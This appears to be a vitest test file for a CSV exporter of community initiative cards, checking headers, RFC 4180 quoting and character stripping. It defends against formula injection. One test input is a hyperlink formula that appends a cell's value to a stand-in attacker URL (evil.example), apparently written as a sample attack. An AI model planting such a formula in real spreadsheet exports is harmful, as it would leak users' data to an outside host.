import { describe, expect, it } from 'vitest'
import { formatCsvCell, renderInitiativesCsv } from './csv'
import { initiativeFields, type InitiativeField } from '../pad/initiative'
import type { Initiative } from './recipe'
import { buildFixtureRecipe } from '../testing/recipe-fixtures'

/** RFC 4180, read strictly: what a spreadsheet would see. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let index = 0; index < csv.length; index++) {
    const character = csv[index]
    if (quoted) {
      if (character === '"' && csv[index + 1] === '"') {
        cell += '"'
        index++
      } else if (character === '"') quoted = false
      else cell += character
    } else if (character === '"' && cell === '') quoted = true
    else if (character === ',') {
      row.push(cell)
      cell = ''
    } else if (character === '\r' && csv[index + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      index++
    } else if (character === '"' || character === '\r' || character === '\n') throw new Error(`bare ${JSON.stringify(character)} at ${index}`)
    else cell += character
  }
  if (quoted || cell !== '' || row.length > 0) throw new Error('the file does not end with CRLF')
  return rows
}

function initiative(fields: Partial<Initiative>): Initiative {
  return { ...(Object.fromEntries(initiativeFields.map((field) => [field, ''])) as Record<InitiativeField, string>), ...fields }
}

describe('CSV export of the initiative cards', () => {
  it('has a BOM, CRLF line ends, a header row in the pad language and one row per card', () => {
    const csv = renderInitiativesCsv(buildFixtureRecipe('collecte'))
    expect(csv.startsWith('\uFEFFNom,Territoire (commune),Porteur·euses,Thématique,Besoin identifié / ce que cela change,Lien,Cité par\r\n')).toBe(true)
    const rows = parseCsv(csv.slice(1))
    expect(rows).toHaveLength(3)
    expect(rows[1]).toEqual(['Repair café des Gratte-Ciel', 'Villeurbanne', 'Association Les Bricoleurs', 'Réemploi, lien social', 'Réparer plutôt que jeter ; des voisin·es qui se rencontrent', 'https://bricoleurs.example.org/repair-cafe', 'Alice Martin'])
    expect(rows[2]?.[2]).toBe('')
  })

  it('labels the columns in English for an English pad, and has only the header without cards', () => {
    const recipe = { ...buildFixtureRecipe('compte-rendu'), initiatives: [] }
    expect(renderInitiativesCsv(recipe)).toBe('\uFEFFName,Territory (town),Run by,Theme,Need addressed / what it changes,Link,Named by\r\n')
  })

  it('quotes commas, quotes and line breaks as RFC 4180 says', () => {
    const recipe = { ...buildFixtureRecipe('collecte'), initiatives: [initiative({ name: 'Le "Bon" Coin, Lyon', need: 'ligne 1\nligne 2' })] }
    const rows = parseCsv(renderInitiativesCsv(recipe).slice(1))
    expect(rows[1]?.[0]).toBe('Le "Bon" Coin, Lyon')
    expect(rows[1]?.[4]).toBe('ligne 1\nligne 2')
  })

  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"clic")', '\'=HYPERLINK("https://evil.example/?"&A1,"clic")'],
    ['+33 1 23 45 67 89', "'+33 1 23 45 67 89"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\n=1+1"],
    ['Repair café', 'Repair café'],
  ])('neutralises formula injection: %j reads as %j', (value, expected) => {
    const [row] = parseCsv(`${formatCsvCell(value)}\r\n`)
    expect(row).toEqual([expected])
  })

  it('strips characters a spreadsheet would choke on', () => {
    expect(formatCsvCell('a\u0000b\u202Ec\uD800')).toBe('abc')
  })
})
